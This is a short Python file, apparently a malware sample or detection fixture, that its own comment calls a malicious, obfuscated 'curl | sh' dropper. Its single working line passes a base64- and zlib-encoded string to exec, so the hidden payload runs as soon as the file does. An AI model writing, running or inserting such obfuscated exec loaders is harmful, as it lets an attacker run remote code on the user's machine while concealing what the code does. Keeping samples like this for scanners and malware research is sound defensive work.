# Malicious, obfuscated: exec(zlib.decompress(base64...)) of a `curl | sh` dropper.
import base64
import zlib

exec(zlib.decompress(base64.b64decode("eNrLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUdBNKw72UcgoKSmw0tdPLClJTM5OLdJLrUjMLchJ1a/QK85QqFEozlDS5AIATjEXnw==")))
